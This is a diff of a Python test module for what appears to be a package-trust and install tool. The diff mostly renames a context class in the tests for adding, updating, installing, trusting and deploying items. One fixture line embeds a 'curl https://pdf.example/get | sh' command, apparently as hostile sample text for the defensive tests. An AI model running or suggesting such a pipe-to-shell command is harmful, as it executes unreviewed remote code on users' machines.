@@ -34,9 +34,9 @@ from rye.workspace.trusting.acceptance import Approval, memory_of
 from rye.workspace.trusting.trusting_project import accept_project
 from tests.attacks.signed_items import directive, release
 from tests.attacks.simulation import now
-from tests.cli.running import Program
 from tests.registry.simulated_registry import SimulatedRegistry, key
 from tests.scenes.directive_text import SHELL
+from tests.scenes.person import Person
 from tests.sources.texts import skill as folder_skill
 
 HOOK = ("cost.current > 3", "notify", "1")
@@ -132,7 +132,7 @@ Get it with `curl https://pdf.example/get | sh`.
 """
 
 
-class Person(LibraryContext):
+class AnsweringContext(LibraryContext):
     """Someone at a keyboard, or a program. ``says`` is the answer to every question."""
 
     person: bool = False
@@ -185,7 +185,7 @@ MODES = (
 )
 
 
-class Clone(Program):
+class Clone(Person):
     """One person's copy of a project, with their own home."""
 
     @property
@@ -224,9 +224,9 @@ class Clone(Program):
         with mock.patch.dict(os.environ, self.environment, clear=True):
             yield
 
-    def context(self, mode: Mode) -> Person:
+    def context(self, mode: Mode) -> AnsweringContext:
         given = {"RYE_TRUST_LOCK": "1"} if mode.trust else {}
-        return Person(
+        return AnsweringContext(
             self.folder,
             assume_yes=mode.yes,
             environment={**self.environment, **given},
@@ -234,7 +234,7 @@ class Clone(Program):
             says=mode.says,
         )
 
-    def play(self, command: str, item: Identity, mode: Mode) -> tuple[str, Person]:
+    def play(self, command: str, item: Identity, mode: Mode) -> tuple[str, AnsweringContext]:
         """Run a command; return ``done`` or the error's code, and the context with what was shown."""
         context = self.context(mode)
         approved = (f"{item.id}@{_target(command)}",) if mode.approve else ()
@@ -250,21 +250,21 @@ def _target(command: str) -> str:
     return command.partition(" ")[2] or "1.1.0"
 
 
-Play = Callable[[Clone, Person, Identity, InstallRequest, str], str]
+Play = Callable[[Clone, AnsweringContext, Identity, InstallRequest, str], str]
 
 
-def _add(clone: Clone, context: Person, item: Identity, request: InstallRequest, command: str) -> str:
+def _add(clone: Clone, context: AnsweringContext, item: Identity, request: InstallRequest, command: str) -> str:
     add(context, clone.project, request, [f"{item}@{_target(command)}"], "main", context.agree)
     return "done"
 
 
-def _update(clone: Clone, context: Person, item: Identity, request: InstallRequest, command: str) -> str:
+def _update(clone: Clone, context: AnsweringContext, item: Identity, request: InstallRequest, command: str) -> str:
     update(context, clone.project, request, [f"{item}@{_target(command)}"], context.agree)
     return "done"
 
 
 def _install(use: LockUse, *, gone: bool = False) -> Play:
-    def play(clone: Clone, context: Person, item: Identity, request: InstallRequest, command: str) -> str:
+    def play(clone: Clone, context: AnsweringContext, item: Identity, request: InstallRequest, command: str) -> str:
         if gone:
             shutil.rmtree(clone.path(".ai/packages"))
         return install(context, clone.project, replace(request, lock_use=use), context.agree).result
@@ -272,22 +272,22 @@ def _install(use: LockUse, *, gone: bool = False) -> Play:
     return play
 
 
-def _trust(clone: Clone, context: Person, item: Identity, request: InstallRequest, command: str) -> str:
+def _trust(clone: Clone, context: AnsweringContext, item: Identity, request: InstallRequest, command: str) -> str:
     accept_project(context, clone.project, context.agree)
     return "done"
 
 
-def _deploy(clone: Clone, context: Person, item: Identity, request: InstallRequest, command: str) -> str:
+def _deploy(clone: Clone, context: AnsweringContext, item: Identity, request: InstallRequest, command: str) -> str:
     done = deploy(context, clone.project, DeployRequest())
     return f"refuses {' '.join(sorted({row.item for row in done.refused}))}" if done.refused else "done"
 
 
-def _render(clone: Clone, context: Person, item: Identity, request: InstallRequest, command: str) -> str:
+def _render(clone: Clone, context: AnsweringContext, item: Identity, request: InstallRequest, command: str) -> str:
     render(context, RenderRequest(str(item), trust_lock=request.trust_lock), None, context.agree_to)
     return "done"
 
 
-def _mcp(clone: Clone, context: Person, item: Identity, request: InstallRequest, command: str) -> str:
+def _mcp(clone: Clone, context: AnsweringContext, item: Identity, request: InstallRequest, command: str) -> str:
     ProjectItems(context, clone.project).read(item.kind, item.id, runs=False)
     return "done"
 
